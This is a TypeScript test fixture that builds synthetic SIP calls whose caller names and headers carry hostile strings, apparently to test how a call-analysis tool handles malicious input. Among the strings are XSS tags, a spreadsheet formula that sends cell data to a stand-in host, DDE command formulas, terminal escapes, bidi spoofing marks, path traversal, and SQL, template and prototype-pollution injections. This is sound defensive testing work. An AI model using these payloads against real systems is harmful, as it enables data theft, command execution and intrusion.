// Calls whose people call themselves what no telephone would: HTML, formulas, escapes of terminals, marks that turn text round, pieces
// of paths, ten kilobytes, bytes that are no UTF-8. As display names, users of addresses and names of phones (User-Agent).
import { DEFAULT_START_US } from "./call-options.js";
import { makeCall } from "./office-call.js";
import { mergeCalls, type TimedFrame } from "./timed-frames.js";

/** Stands in a message for INVALID_BYTES, which no text has. */
const PLACEHOLDER = "BADBYTES";
/** No start, an overlong NUL, a lone surrogate, beyond Unicode. */
const INVALID_BYTES = Buffer.from([0xff, 0xc0, 0x80, 0xed, 0xa0, 0x80, 0xf5, 0xfe]);

/** By what they are. */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  html: `<script>alert(1)</script><img src=x onerror=alert(2)>'"&amp;`,
  formula: `=HYPERLINK("http://evil.example/?"&A1,"open")`,
  "formula with a sign": `+cmd|' /C calc'!A0`,
  "formula behind a tab": "\t@SUM(1+1)*cmd|' /C calc'!A0",
  "formula in full width": "\uff1d1+1",
  "terminal escapes": "\u001b]0;owned\u0007\u001b[31m\u001b[2J\u009b31m\u001b]8;;http://evil.example\u0007x",
  "bidi marks": "\u202egpj.exe\u2066\u200bab\u2028c\ufeff",
  "path pieces": "../../../../etc/passwd",
  "path pieces of Windows": "..\\..\\CON.wav:stream",
  "device name": "NUL",
  "nul byte": "a\u0000b",
  json: `","isAdmin":true,"x":"\\u0000`,
  sql: `'); DROP TABLE calls; --`,
  template: "$" + "{7*7}{{7*7}}%s%n<%= 1 %>",
  prototype: "__proto__",
  "ten kilobytes": `long ${"A".repeat(10_000)}`,
  "no utf-8": `bad ${PLACEHOLDER}`,
};

/** One call for each, a tenth of a second apart, half a second long; the agent is 10.0.0.7. Times from `startUs`. */
export function hostileCalls(startUs = DEFAULT_START_US): TimedFrame[] {
  const calls = Object.values(HOSTILE_TEXTS).map((text, i) =>
    makeCall({
      callId: `=<b>../..%2f${i}@office.example`,
      startUs: startUs + i * 100_000,
      ringMs: 100,
      durationMs: 500,
      mtu: 1400,
      caller: { user: userOf(text, i), name: text, rtpPort: 30_000 + 2 * i },
      callee: { user: "21", rtpPort: 40_000 + 2 * i },
      headers: {
        invite: [
          ["User-Agent", text],
          ["Subject", text],
          ["P-Asserted-Identity", `"${text}" <tel:+4930${1000 + i}>`],
        ],
      },
    }),
  );
  return mergeCalls(...calls).map((one) => ({ ...one, frame: spoilt(one.frame) }));
}

/** As much of it as an address holds (RFC 3261 §25.1): what is more would end the address. */
function userOf(text: string, i: number): string {
  const user = text.replaceAll(/[\s@<>;?"\\\p{Cc}]/gu, "").slice(0, 4000);
  return i % 2 === 0 ? user || `u${i}` : `0${i}`;
}

function spoilt(frame: Buffer): Buffer {
  const at = frame.indexOf(PLACEHOLDER);
  if (at < 0) return frame;
  const copy = Buffer.from(frame);
  for (let next = at; next >= 0; next = copy.indexOf(PLACEHOLDER, next)) INVALID_BYTES.copy(copy, next);
  return copy;
}
